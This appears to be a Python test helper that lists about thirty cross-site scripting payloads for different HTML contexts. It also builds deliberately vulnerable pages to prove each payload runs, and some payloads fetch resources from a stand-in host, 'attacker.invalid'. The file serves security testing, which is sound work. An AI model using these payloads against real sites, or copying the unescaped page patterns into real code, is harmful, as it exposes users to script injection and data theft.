"""Texts that run a script where HTML is made of them without escaping: one for each context, and with proof of that."""

import html
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

from tests.helpers.template_injection import EXPRESSION

FOREIGN = "attacker.invalid"
"""The host to which some of them lead."""
PACKED = 190
"""Length of packed texts: names may have 200 characters, and places are appended."""


@dataclass(frozen=True)
class Payload:
    """A text with `{x}` in place of the function that it calls; a page in which it does has it in place of `%s`."""

    name: str
    text: str
    vulnerable: str = "<p>%s</p>"


PAYLOADS = (
    Payload("element", "<script>{x}()</script>"),
    Payload("event handler", "<img src=x onerror={x}()>"),
    Payload("SVG", "<svg onload={x}()>"),
    Payload("SVG animation", "<svg><animate onbegin={x}() attributeName=x dur=1s>"),
    Payload("details", "<details open ontoggle={x}()>"),
    Payload("double quotes", '" type=image src=x onerror={x}() "', '<input value="%s">'),
    Payload("single quotes", "' type=image src=x onerror={x}() '", "<input value='%s'>"),
    Payload("no quotes", "x type=image src=x onerror={x}() x", "<input value=%s>"),
    Payload("JSON island", "</script><script>{x}()</script>", '<script type="application/json">"%s"</script>'),
    Payload("script string", "'-{x}()-'", "<script>const a = '%s'</script>"),
    Payload("template literal", "${{x}()}", "<script>const a = `%s`</script>"),
    Payload("line separator", "\u2028{x}()//", "<script>// %s</script>"),
    Payload("paragraph separator", "\u2029{x}()//", "<script>// %s</script>"),
    Payload("URL", "javascript:{x}()//", '<iframe src="%s"></iframe>'),
    Payload("srcdoc", '<iframe srcdoc="<script>{x}()</script>"></iframe>'),
    Payload("style element", "</style><img src=x onerror={x}()>", "<style>p { content: '%s' }</style>"),
    Payload("style attribute", f"red;background:url(//{FOREIGN}/{{x}})", '<p style="color: %s">x</p>'),
    Payload("style sheet", f"<style>@import '//{FOREIGN}/{{x}}'</style>"),
    Payload("link", f"<link rel=stylesheet href=//{FOREIGN}/{{x}}>"),
    Payload("base", f"<base href=//{FOREIGN}/{{x}}/><img src=x>"),
    Payload("redirect", f'<meta http-equiv=refresh content="1;url=//{FOREIGN}/{{x}}">'),
    Payload("comment", "--><img src=x onerror={x}()><!--", "<!-- %s -->"),
    Payload("text area", "</textarea><img src=x onerror={x}()>", "<textarea>%s</textarea>"),
    Payload("title", "</title><img src=x onerror={x}()>", "<title>%s</title>"),
    Payload(
        "entities", "&lt;img src=x onerror={x}()&gt;", "<p id=p>%s</p><script>p.innerHTML = p.textContent</script>"
    ),
    Payload("mutation of noscript", '<noscript><p title="</noscript><img src=x onerror={x}()>">'),
    Payload("mutation of a comment", "<!--><img src=x onerror={x}()>-->"),
    Payload("mutation of CDATA", "<![CDATA[><img src=x onerror={x}()>]]>"),
)


def texts(function: str) -> list[str]:
    """All payloads, each calling the function."""
    return [EXPRESSION, *(payload.text.replace("{x}", function) for payload in PAYLOADS)]


def packed(function: str) -> list[str]:
    """All payloads in as few texts as names allow."""
    made = [""]
    for text in texts(function):
        if len(made[-1]) + len(text) >= PACKED:
            made.append("")
        made[-1] += f" {text}" if made[-1] else text
    return made


def vulnerable_pages(function: str) -> Iterator[tuple[str, str]]:
    """For each payload its name, and a page that runs it."""
    for payload in PAYLOADS:
        yield payload.name, payload.vulnerable.replace("%s", payload.text.replace("{x}", function))


def in_frames(pages: Iterable[tuple[str, str]]) -> str:
    """A page that shows these, each in a frame with its name."""
    return "".join(f'<iframe name="{name}" srcdoc="{html.escape(page)}"></iframe>' for name, page in pages)
